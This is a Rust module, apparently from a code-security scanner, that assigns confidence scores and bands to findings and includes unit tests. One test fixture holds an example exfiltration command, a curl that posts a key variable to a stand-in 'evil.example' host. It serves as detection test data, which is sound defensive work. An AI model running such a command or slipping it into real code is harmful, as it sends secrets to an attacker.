//! Post-hoc confidence scoring.
//!
//! Runs after raw rule evaluation, never during it. Each finding gets a
//! score in [0, 1] built from additive adjustments, then a banded reason
//! string. The in-comment signal is plumbed but currently always false;
//! no detector exists yet.

use crate::engine::heuristics::entropy::{entropy_of_finding, ENTROPY_THRESHOLD};
use crate::rules::types::{FileType, Finding, FindingSource, Severity};

const BASE: f64 = 0.5;

/// Inputs to the scorer beyond the finding itself.
#[derive(Debug, Clone, Copy, Default)]
pub struct ConfidenceInput {
    /// Reserved: whether the match sits inside a comment.
    pub in_comment: bool,
}

/// Path fragments that mark test fixtures.
const TEST_PATH_MARKERS: &[&str] = &["/test/", "/tests/", "/__tests__/", ".test.", ".spec."];

/// Attach confidence and reason to every finding in place.
pub fn attach(findings: &mut [Finding]) {
    for finding in findings.iter_mut() {
        let (score, reason) = score(finding, ConfidenceInput::default());
        finding.confidence = Some(score);
        finding.confidence_reason = Some(reason);
    }
}

/// Score one finding. Exposed separately so the in-comment hook can be
/// exercised directly.
pub fn score(finding: &Finding, input: ConfidenceInput) -> (f64, String) {
    let mut score = BASE;

    score += match finding.source {
        FindingSource::Signature => 0.3,
        FindingSource::Heuristic => 0.1,
    };

    score += match finding.severity {
        Severity::Critical => 0.1,
        Severity::High => 0.05,
        _ => 0.0,
    };

    if input.in_comment {
        score -= 0.3;
    }

    let file_lower = finding.file.to_lowercase();
    if TEST_PATH_MARKERS.iter().any(|m| file_lower.contains(m)) {
        score -= 0.2;
    }

    if finding.category.as_deref() == Some("heuristic_secrets") {
        match entropy_of_finding(finding) {
            Some(e) if e >= 4.5 => score += 0.2,
            Some(e) if e >= ENTROPY_THRESHOLD => score += 0.1,
            _ => score -= 0.1,
        }
    }

    if let Some(snippet) = &finding.snippet {
        if snippet.len() > 50 {
            score += 0.1;
        } else if snippet.len() < 10 {
            score -= 0.1;
        }
    }

    let file_type = FileType::from_path(std::path::Path::new(&finding.file));
    if finding.category.as_deref() == Some("supply_chain")
        && matches!(file_type, FileType::Json | FileType::Manifest)
    {
        score += 0.1;
    }
    if finding.category.as_deref() == Some("command_injection") && file_type == FileType::Bash {
        score += 0.1;
    }

    let score = score.clamp(0.0, 1.0);
    (score, band(score).to_string())
}

fn band(score: f64) -> &'static str {
    if score >= 0.8 {
        "high confidence"
    } else if score >= 0.6 {
        "medium confidence"
    } else if score >= 0.4 {
        "low confidence"
    } else {
        "very low confidence"
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::types::Finding;

    fn signature_finding(file: &str, snippet: &str, severity: Severity) -> Finding {
        Finding {
            rule_id: "R".to_string(),
            severity,
            message: "m".to_string(),
            file: file.to_string(),
            line: Some(1),
            category: Some("exfiltration".to_string()),
            remediation: None,
            source: FindingSource::Signature,
            snippet: Some(snippet.to_string()),
            confidence: None,
            confidence_reason: None,
        }
    }

    #[test]
    fn test_signature_critical_scores_high() {
        let f = signature_finding("/a/b.sh", "curl https://evil.example -d $KEY x", Severity::Critical);
        let (score, reason) = score(&f, ConfidenceInput::default());
        // 0.5 + 0.3 + 0.1 = 0.9
        assert!((score - 0.9).abs() < 1e-9);
        assert_eq!(reason, "high confidence");
    }

    #[test]
    fn test_heuristic_lower_than_signature() {
        let mut f = signature_finding("/a/b.sh", "some match here", Severity::High);
        let (sig_score, _) = score(&f, ConfidenceInput::default());
        f.source = FindingSource::Heuristic;
        f.snippet = None;
        let (heur_score, _) = score(&f, ConfidenceInput::default());
        assert!(heur_score < sig_score);
    }

    #[test]
    fn test_test_path_penalty() {
        let prod = signature_finding("/src/app.sh", "medium snippet", Severity::Low);
        let test = signature_finding("/src/__tests__/app.sh", "medium snippet", Severity::Low);
        let (p, _) = score(&prod, ConfidenceInput::default());
        let (t, _) = score(&test, ConfidenceInput::default());
        assert!((p - t - 0.2).abs() < 1e-9);
    }

    #[test]
    fn test_spec_suffix_penalty() {
        let f = signature_finding("/src/app.spec.ts", "medium snippet", Severity::Low);
        let (s, _) = score(&f, ConfidenceInput::default());
        assert!((s - 0.6).abs() < 1e-9);
    }

    #[test]
    fn test_in_comment_hook_penalizes() {
        let f = signature_finding("/src/a.sh", "medium snippet", Severity::Low);
        let (plain, _) = score(&f, ConfidenceInput::default());
        let (commented, _) = score(&f, ConfidenceInput { in_comment: true });
        assert!((plain - commented - 0.3).abs() < 1e-9);
    }

    #[test]
    fn test_short_snippet_penalty_long_snippet_bonus() {
        let short = signature_finding("/a.sh", "tiny", Severity::Low);
        let long = signature_finding("/a.sh", &"x".repeat(60), Severity::Low);
        let mid = signature_finding("/a.sh", "a middling one", Severity::Low);
        let (s, _) = score(&short, ConfidenceInput::default());
        let (l, _) = score(&long, ConfidenceInput::default());
        let (m, _) = score(&mid, ConfidenceInput::default());
        assert!(s < m && m < l);
    }

    #[test]
    fn test_entropy_band_bonus() {
        let mut f = Finding::heuristic(
            "HEURISTIC_HIGH_ENTROPY_STRING",
            Severity::High,
            "heuristic_secrets",
            "high-entropy string [entropy=4.71]".to_string(),
            "/a/config.txt",
            Some(3),
        );
        let (very_random, _) = score(&f, ConfidenceInput::default());

        f.message = "high-entropy string [entropy=4.30]".to_string();
        let (random, _) = score(&f, ConfidenceInput::default());
        assert!(very_random > random);
    }

    #[test]
    fn test_supply_chain_in_json_bonus() {
        let mut f = Finding::heuristic(
            "SUPPLY_CHAIN_REMOTE_EXEC",
            Severity::Critical,
            "supply_chain",
            "m".to_string(),
            "/pkg/package.json",
            Some(3),
        );
        let (in_json, _) = score(&f, ConfidenceInput::default());
        f.file = "/pkg/install.sh".to_string();
        let (in_sh, _) = score(&f, ConfidenceInput::default());
        assert!((in_json - in_sh - 0.1).abs() < 1e-9);
    }

    #[test]
    fn test_command_injection_in_bash_bonus() {
        let mut f = Finding::heuristic(
            "CODE_PY_SUBPROCESS_SHELL",
            Severity::High,
            "command_injection",
            "m".to_string(),
            "/x/run.sh",
            Some(1),
        );
        let (in_bash, _) = score(&f, ConfidenceInput::default());
        f.file = "/x/run.py".to_string();
        let (in_py, _) = score(&f, ConfidenceInput::default());
        assert!(in_bash > in_py);
    }

    #[test]
    fn test_score_clamped_to_unit_interval() {
        let f = signature_finding(
            "/prod/package.json",
            &"y".repeat(80),
            Severity::Critical,
        );
        let (s, _) = score(&f, ConfidenceInput::default());
        assert!(s <= 1.0);

        let mut weak = Finding::heuristic(
            "HEURISTIC_HIGH_ENTROPY_STRING",
            Severity::Low,
            "heuristic_secrets",
            "no entropy marker".to_string(),
            "/src/tests/fixture.test.js",
            None,
        );
        weak.snippet = Some("ab".to_string());
        let (w, _) = score(&weak, ConfidenceInput { in_comment: true });
        assert!(w >= 0.0);
    }

    #[test]
    fn test_bands() {
        assert_eq!(band(0.85), "high confidence");
        assert_eq!(band(0.65), "medium confidence");
        assert_eq!(band(0.45), "low confidence");
        assert_eq!(band(0.1), "very low confidence");
    }

    #[test]
    fn test_attach_fills_every_finding() {
        let mut findings = vec![
            signature_finding("/a.sh", "snippet text", Severity::High),
            Finding::heuristic("H", Severity::Low, "x", "m".to_string(), "/b.py", None),
        ];
        attach(&mut findings);
        for f in &findings {
            assert!(f.confidence.is_some());
            assert!(f.confidence_reason.is_some());
        }
    }
}
